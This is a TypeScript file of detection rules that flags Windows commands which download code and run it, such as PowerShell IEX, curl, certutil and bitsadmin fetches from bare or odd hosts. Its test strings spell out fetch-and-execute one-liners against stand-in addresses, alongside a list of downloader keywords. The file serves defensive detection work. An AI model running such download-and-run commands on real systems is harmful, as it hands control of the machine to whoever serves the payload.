/** Code from outside that Windows fetches and runs: what fetches, from where, and whether it is run at once. */
import { behaviour } from './behaviour.ts';
import { hostClass, isOddHost, isWritablePlace, portOf } from './places.ts';
import { inputsOf, onProcess, onScene, type Row, type Scene } from './row.ts';
import type { Argument, Process } from '../types.ts';

export const DOWNLOADS: ReadonlySet<string> = new Set([
  '.downloadstring',
  '.downloaddata',
  '.downloadfile',
  '.openread',
  '.getstringasync',
  '.getbytearrayasync',
  'invoke-webrequest',
  'invoke-restmethod',
  'curl',
  'wget',
  'start-bitstransfer',
  'bitsadmin',
  'certutil',
  '.downloadstringtaskasync',
  '.open',
  '.loadfrom',
]);
/** A place outside: a URL among the arguments. */
export function urlOf({ args }: Process): Argument | undefined {
  return (
    args.find(({ role, lower }) => role === 'url' || /^(?:https?|ftp):\/\//.test(lower)) ??
    args.find(({ lower }) => /(?:^|[=:(,'"\s])https?:\/\/[^\s/]/.test(lower.slice(0, 2000)))
  );
}

/** The URL inside an argument (`/i:http://…`). */
export function urlText(argument: Argument): string {
  return (
    /(?:https?|ftp|file|tcp|smb|ldap):\/\/[^\s"'`<>|)]{1,500}/.exec(argument.lower.slice(0, 3000))?.[0] ??
    argument.lower
  );
}

export function oddUrl(process: Process): Argument | undefined {
  const url = urlOf(process);
  return url !== undefined && isOddHost(urlText(url)) ? url : undefined;
}

/** A program that fetches stands in the inputs or the brackets of a process. */
function fetchedInput(process: Process, scene: Scene): Process | undefined {
  const before = inputsOf(process, scene).find((one) => DOWNLOADS.has(one.name) && urlOf(one) !== undefined);
  if (before !== undefined) return before;
  return scene.processes
    .slice(Math.max(0, process.index - 4), process.index + 24)
    .find(
      (one) =>
        DOWNLOADS.has(one.name) &&
        (one.parent === process.index ||
          (one.layer === process.layer &&
            one.span.start > process.span.start &&
            one.index < process.index &&
            process.index - one.index < 4)),
    );
}

export const WINDOWS_SCRIPTS: readonly Row[] = [
  behaviour('ps-fetched-run', ['fetch-run', 'T1059.001', 'execution', 'high', 'high'], {
    reason:
      'PowerShell runs text straight from the network: nothing is written to the disk, and whoever controls the address controls the machine.',
    benign: ['installers of package managers from their own site'],
    hits: [
      'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://a.example.net/a.ps1\')"',
      'powershell irm https://a.example.net/x | iex',
    ],
    misses: ['powershell -c "Invoke-WebRequest https://a.example.net/x -OutFile x"'],
    look: onProcess(['invoke-expression'], (process, scene) => {
      const from = fetchedInput(process, scene);
      const url = from === undefined ? undefined : urlOf(from);
      return url !== undefined && hostClass(urlText(url)) === 'vendor' ? undefined : from;
    }),
  }),
  behaviour('ps-fetched-run-odd', ['fetch-run-place', 'T1105', 'command-and-control', 'critical', 'high'], {
    reason:
      'The text that PowerShell runs comes from an address that no vendor ships software from (a bare address, a paste or free hosting site, a cheap name).',
    benign: [],
    hits: [
      'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"',
      'powershell "iex (iwr http://files.example.top/x -useb)"',
    ],
    misses: [
      'powershell -c "iex ((New-Object Net.WebClient).DownloadString(\'https://community.chocolatey.org/install.ps1\'))"',
    ],
    look: onProcess(['invoke-expression'], (process, scene) => {
      const from = fetchedInput(process, scene);
      return from === undefined ? undefined : oddUrl(from);
    }),
  }),
  behaviour('ps-fetched-run-code-host', ['fetch-run-place', 'T1105', 'command-and-control', 'high', 'high'], {
    reason: 'The text that PowerShell runs comes from a public code host, where anybody can put a script.',
    benign: ['installers that a project publishes in its repository'],
    hits: ['powershell "IEX (IWR \'https://raw.githubusercontent.com/someone/tools/main/x.ps1\' -UseBasicParsing)"'],
    misses: ['powershell "iwr https://raw.githubusercontent.com/someone/tools/main/x.json -OutFile x.json"'],
    look: onProcess(['invoke-expression'], (process, scene) => {
      const from = fetchedInput(process, scene);
      const url = from === undefined ? undefined : urlOf(from);
      return url !== undefined && hostClass(urlText(url)) === 'code-host' ? url : undefined;
    }),
  }),
  behaviour('ps-fetch-method', ['fetch', 'T1105', 'command-and-control', 'medium', 'low'], {
    reason: 'A script fetches something with the web client of .NET.',
    benign: ['installation and update scripts'],
    hits: ["powershell \"(New-Object Net.WebClient).DownloadFile('https://a.example.net/b','C:\\b')\""],
    misses: ['powershell "Get-ChildItem C:\\"'],
    look: onProcess([
      '.downloadstring',
      '.downloadfile',
      '.downloaddata',
      '.openread',
      '.getstringasync',
      '.getbytearrayasync',
    ]),
  }),
  behaviour('fetch-odd-host', ['fetch', 'T1105', 'command-and-control', 'high', 'low'], {
    reason: 'A program of the system fetches from an address that no vendor ships software from.',
    benign: ['internal tools on a public address', 'health checks'],
    hits: [
      "powershell \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.9/b','C:\\b')\"",
      'curl -o C:\\x.exe http://files.example.top/x.exe',
    ],
    misses: ['curl -o x.zip https://downloads.example.com/x.zip', 'curl http://127.0.0.1:8080/'],
    look: onProcess(
      [
        '.downloadstring',
        '.downloadfile',
        '.downloaddata',
        '.openread',
        'invoke-webrequest',
        'invoke-restmethod',
        'start-bitstransfer',
        'bitsadmin',
        'certutil',
        'curl',
        'wget',
        'fetch',
        'ftp',
        'tftp',
        'aria2c',
        '.open',
      ],
      (process) => {
        const url = oddUrl(process);
        return url !== undefined && (hostClass(urlText(url)) !== 'free-host' || urlText(url).startsWith('http:'))
          ? url
          : undefined;
      },
    ),
  }),
  behaviour('fetch-program-odd', ['fetch', 'T1105', 'command-and-control', 'high', 'medium'], {
    reason: 'A program or script file is fetched from a bare address or another place that no vendor uses.',
    benign: ['a laboratory without names'],
    hits: [
      'curl -o C:\\x.exe http://203.0.113.9/x.exe',
      'powershell "iwr http://203.0.113.9/x.ps1 -OutFile C:\\x.ps1"',
    ],
    misses: ['curl http://203.0.113.9/status', 'curl -O https://downloads.example.com/setup.exe'],
    look: onProcess(
      [
        '.downloadstring',
        '.downloadfile',
        '.downloaddata',
        'invoke-webrequest',
        'invoke-restmethod',
        'start-bitstransfer',
        'bitsadmin',
        'certutil',
        'curl',
        'wget',
      ],
      (process) => {
        const url = oddUrl(process);
        return url !== undefined &&
          /\.(?:exe|dll|ps1|psm1|bat|cmd|vbs|vbe|jse?|hta|msi|scr|sct|lnk|iso|img|bin|elf|sh|py|pl|jar|dat|xsl|cab|7z|zip|rar|png|jpg|txt)(?:$|[?'")\s;])/.test(
            urlText(url),
          )
          ? url
          : undefined;
      },
    ),
  }),
  behaviour('fetch-program-code-host', ['fetch', 'T1105', 'command-and-control', 'medium', 'medium'], {
    reason:
      'A script or library for Windows is fetched from the files of a public code host, not from a release of a project.',
    benign: ['set-up scripts of developers'],
    hits: [
      'curl -O https://raw.githubusercontent.com/someone/tools/main/x.ps1',
      'curl -k https://github.com/a/b/raw/main/x.dll -o c:\\users\\public\\x.dll',
    ],
    misses: [
      'curl -LO https://github.com/a/b/releases/download/v1/x.exe',
      'curl -O https://raw.githubusercontent.com/a/b/main/README.md',
    ],
    look: onProcess(
      [
        'curl',
        'wget',
        'invoke-webrequest',
        'invoke-restmethod',
        '.downloadfile',
        '.downloadstring',
        'start-bitstransfer',
        'bitsadmin',
        'certutil',
      ],
      (process) => {
        const url = urlOf(process);
        const text = url === undefined ? '' : urlText(url);
        return hostClass(text) === 'code-host' &&
          !text.includes('/releases/') &&
          /\.(?:ps1|psm1|dll|exe|bat|hta|vbs|sct|jse?|lnk|iso|xsl)(?:$|[?'")])/.test(text)
          ? url
          : undefined;
      },
    ),
  }),
  behaviour('headless-browser-fetch', ['fetch', 'T1105', 'command-and-control', 'high', 'medium'], {
    reason: 'A browser without a window fetches a page from a bare address, which passes as the traffic of a user.',
    benign: ['tests of a web site by name'],
    hits: ['chrome.exe --headless --disable-gpu --dump-dom http://203.0.113.9/a.txt'],
    misses: ['chrome --headless --screenshot https://www.example.com', 'chrome http://203.0.113.9/'],
    look: onProcess(['chrome', 'msedge', 'chromium', 'brave', 'google-chrome'], ({ args }) =>
      args.some(({ lower }) => lower.startsWith('--headless'))
        ? args.find(
            ({ lower }) =>
              /^(?:ip|private|integer-ip|paste|file-share|tunnel)$/.test(hostClass(lower)) && /^https?:/.test(lower),
          )
        : undefined,
    ),
  }),
  behaviour('fetch-odd-port', ['fetch-port', 'T1571', 'command-and-control', 'medium', 'medium'], {
    reason: 'Something is fetched over plain HTTP from a bare address at an unusual port.',
    benign: ['development servers'],
    hits: ['powershell "iwr http://203.0.113.9:8888/a -OutFile a"'],
    misses: ['curl http://203.0.113.9/a', 'curl http://build.corp.example:8080/a'],
    look: onProcess([...DOWNLOADS], (process) => {
      const url = oddUrl(process);
      const port = url === undefined ? undefined : portOf(urlText(url));
      return port !== undefined && port !== 80 && port !== 443 ? url : undefined;
    }),
  }),
  behaviour('fetched-file-run', ['fetch-run', 'T1105', 'execution', 'medium', 'medium'], {
    reason: 'A file is fetched into a folder that everybody can write to and started in the same line.',
    benign: ['installation scripts that fetch a signed installer'],
    hits: [
      'powershell -c "iwr https://a.example.net/b.exe -OutFile $env:TEMP\\b.exe; Start-Process $env:TEMP\\b.exe"',
      'cmd /c curl -s -o %TEMP%\\a.exe https://a.example.net/a.exe && %TEMP%\\a.exe',
    ],
    misses: ['powershell -c "iwr https://a.example.net/b.zip -OutFile $env:TEMP\\b.zip"'],
    look: onScene((scene) => fetchedThenRun(scene)),
  }),
];

const WRITE_FLAG = /^-{1,2}(?:o|outfile|out-file|output|destination|dest|d|of|outf)$/;

/** The file that a download writes, and a later process that is it or is given it. */
function fetchedThenRun({ processes }: Scene) {
  for (const fetch of processes) {
    if (!DOWNLOADS.has(fetch.name)) continue;
    const from = urlOf(fetch);
    if (
      from !== undefined &&
      (hostClass(urlText(from)) === 'vendor' || /^https:\/\/github\.com\/[^/]+\/[^/]+\/releases\//.test(urlText(from)))
    )
      continue;
    const at = fetch.args.findIndex(({ lower }) => WRITE_FLAG.test(lower));
    const file =
      at === -1
        ? fetch.args.findLast(({ role, lower }) => (role === 'path' || role === 'target') && /\.\w{2,4}$/.test(lower))
        : fetch.args[at + 1];
    if (file === undefined || file.lower.length < 4) continue;
    const base = file.lower.replaceAll('"', '').replace(/^.*[\\/]/, '');
    if (base.length < 3) continue;
    const run = processes.find(
      (one) =>
        one.index > fetch.index &&
        one !== fetch &&
        !DOWNLOADS.has(one.name) &&
        !/^(?:del|rm|remove-item|test-path|unzip|tar|expand-archive|out-null|echo|get-filehash)$/.test(one.name) &&
        (one.program.toLowerCase().endsWith(base) ||
          (STARTERS.has(one.name) && one.args.some(({ lower }) => lower.includes(base)))),
    );
    if (run !== undefined && isWritablePlace(file.lower))
      return { layer: run.layer, start: run.span.start, end: run.span.end };
  }
  return undefined;
}

const STARTERS = new Set([
  'start-process',
  'start',
  'rundll32',
  'regsvr32',
  'powershell',
  'wscript',
  'cscript',
  'mshta',
  'invoke-item',
  'cmd',
  'python',
  'msiexec',
  'bash',
  'sh',
  'java',
  'explorer',
  'open',
  'mount-diskimage',
  'import-module',
  'invoke-expression',
]);
